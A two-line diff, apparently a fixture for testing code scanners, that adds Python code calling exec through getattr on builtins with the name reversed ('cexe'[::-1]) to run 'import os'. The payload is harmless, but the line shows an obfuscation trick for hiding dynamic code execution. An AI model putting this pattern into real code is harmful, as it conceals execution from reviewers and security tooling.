@@ -1,0 +1,2 @@
+import builtins
+getattr(builtins, 'cexe'[::-1])('import os')
